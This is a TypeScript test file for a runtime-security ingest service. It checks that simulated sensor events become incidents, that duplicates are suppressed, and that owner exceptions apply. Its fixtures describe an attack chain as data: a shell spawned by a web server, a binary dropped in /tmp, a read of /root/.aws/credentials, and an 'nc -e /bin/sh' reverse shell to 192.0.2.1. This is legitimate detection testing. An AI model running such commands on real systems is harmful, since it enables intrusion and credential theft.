import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expectIncident, listIncidents, readIncident } from '@breakwater/app/incidents';
import { issueSensorKey } from '@breakwater/app/ingest';
import { type EventProcess, type Incident, IncidentQuery, type RuntimeEvent } from '@breakwater/model';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { openEstateStore } from '../up/open-estate-store.ts';
import { type IngestService, openIngestService } from './open-ingest-service.ts';

let state: string;
let service: IngestService;
let key: string;
let sequence = 0;

const START = Date.now() - 60_000;
const program = (path: string, pid: number, more: Partial<EventProcess> = {}): EventProcess => ({
  ...{ path, arguments: '', pid, uid: 0, executionId: `${pid}:1`, inImage: true },
  ...more,
});
const HTTPD = program('/usr/sbin/httpd', 1);
const SHELL = program('/bin/sh', 20);
const event = (second: number, more: Partial<RuntimeEvent>): RuntimeEvent => ({
  source: 'sensor',
  node: 'n1',
  time: new Date(START + second * 1000).toISOString(),
  type: 'exec',
  container: { id: 'c1', name: 'web', image: 'shop/web:1' },
  ...more,
});
const ATTACK = [
  event(1, { process: HTTPD }),
  event(2, { process: SHELL, parent: HTTPD }),
  event(3, { process: program('/tmp/x', 30, { inImage: false }), parent: SHELL }),
  event(4, {
    type: 'open',
    process: program('/bin/cat', 31),
    parent: SHELL,
    file: { path: '/root/.aws/credentials', access: 'read' },
  }),
];

const start = async () => {
  service = await openIngestService({ state, listen: { host: '127.0.0.1', port: 0 }, names: [], perSecond: 50_000 });
};
async function withStore<T>(work: (store: Awaited<ReturnType<typeof openEstateStore>>) => Promise<T>): Promise<T> {
  const store = await openEstateStore(state);
  return await work(store).finally(() => store.close());
}
async function send(events: readonly RuntimeEvent[], number = ++sequence): Promise<void> {
  const body = events.map((each) => `${JSON.stringify(each)}\n`).join('');
  const headers = { authorization: `Bearer ${key}`, 'breakwater-sensor': 'n1', 'breakwater-sequence': String(number) };
  const response = await fetch(`${service.address}/api/v1/events`, { method: 'POST', body, headers });
  expect(response.status).toBe(200);
}
const open = () =>
  withStore(async ({ incidents }) => {
    const { items } = await listIncidents(incidents, IncidentQuery.parse({}));
    return await Promise.all(items.map(({ id }) => readIncident(incidents, id)));
  });
const told = (check: (found: Incident[]) => boolean) =>
  vi.waitUntil(
    async () => {
      const found = await open();
      return check(found) && found;
    },
    { timeout: 60_000, interval: 200 },
  );

beforeEach(async () => {
  state = mkdtempSync(join(tmpdir(), 'breakwater-incidents-'));
  sequence = 0;
  key = await withStore(async (store) => {
    const { text, key: kept } = issueSensorKey('east', new Date().toISOString());
    await store.ingest.addKey(kept);
    return text;
  });
  await start();
});
afterEach(async () => {
  await service.close();
  rmSync(state, { recursive: true, force: true });
});

describe('events that come over the network', () => {
  it('are judged, and told as one incident with what led to it', { timeout: 120_000 }, async () => {
    await send(ATTACK);
    const [incident, ...others] = await told((found) => (found[0]?.entries.length ?? 0) >= 3);
    expect(others).toEqual([]);
    expect(incident).toMatchObject({ status: 'open', severity: 'critical', subjects: ['shop/web:1'] });
    expect(incident?.entries.map(({ policy }) => policy)).toEqual(
      expect.arrayContaining(['shell-from-server', 'dropped-binary', 'cloud-credentials-read']),
    );
    expect(incident?.processes.map(({ path }) => path)).toEqual(['/usr/sbin/httpd', '/bin/sh', '/tmp/x', '/bin/cat']);
    expect(incident?.advice.join('\n')).toContain('breakwater respond');
    expect(incident?.unknowns.join('\n')).toContain('no estate was read');
  });

  it('tell nothing twice: not when a batch comes again, nor when its sensor tells the same', {
    timeout: 120_000,
  }, async () => {
    await send(ATTACK, 1);
    const [before] = await told((found) => found.length === 1);
    await send(ATTACK, 1);
    await service.close();
    await start();
    await send(ATTACK, 1);
    const [own] = before?.entries.filter(({ policy }) => policy === 'dropped-binary') ?? [];
    const said = {
      rule: 'dropped-binary',
      priority: 'Critical',
      message: own?.sentence ?? '',
      tags: [],
      about: 'exec',
    };
    const { process, parent, ...rest } = ATTACK[2] as RuntimeEvent;
    const alert: RuntimeEvent = { ...rest, type: 'alert', alert: { ...said, ancestors: [SHELL, HTTPD] } };
    if (process !== undefined) alert.process = process;
    if (parent !== undefined) alert.parent = parent;
    await send([ATTACK[2] as RuntimeEvent, alert], 2);
    await send(
      [event(50, { process: program('/bin/nc', 40, { arguments: '-e /bin/sh 192.0.2.1 4444' }), parent: SHELL })],
      3,
    );
    const [after] = await told(([found]) => found?.entries.some(({ sentence }) => sentence.includes('nc')) === true);
    expect(after?.entries.filter(({ policy }) => policy === 'shell-from-server')).toMatchObject([{ count: 1 }]);
    expect(after?.id).toBe(before?.id);
  });

  it('are expected where somebody answers for them: for just that', { timeout: 120_000 }, async () => {
    await send(ATTACK.slice(0, 2));
    const [incident] = await told((found) => found.length === 1);
    const policies = ['shell-from-server'];
    const day = new Date(Date.now() + 86_400_000).toISOString().slice(0, 10);
    const word = { owner: 'team-web', reason: 'a health check', expires: day, keys: [], policies };
    const { exceptions } = await withStore(({ incidents }) =>
      expectIncident({ incidents, now: Date.now }, incident?.id ?? '', word),
    );
    expect(exceptions[0]?.spec.scope).toEqual({ images: ['shop/web:1'], processes: ['/bin/sh'] });
    await service.close();
    await start();
    const again = { ...ATTACK[1], time: new Date(START + 20_000).toISOString() } as RuntimeEvent;
    await send([ATTACK[0] as RuntimeEvent, again]);
    await send([{ ...(ATTACK[2] as RuntimeEvent), time: new Date(START + 30_000).toISOString() }]);
    const [reopened] = await told(
      ([found]) => found?.entries.some(({ policy }) => policy === 'dropped-binary') === true,
    );
    expect(reopened?.status).toBe('open');
    const expected = reopened?.entries.filter(({ policy }) => policy === 'shell-from-server');
    expect(expected?.map(({ kind }) => kind)).toEqual(['alert', 'context']);
  });
});
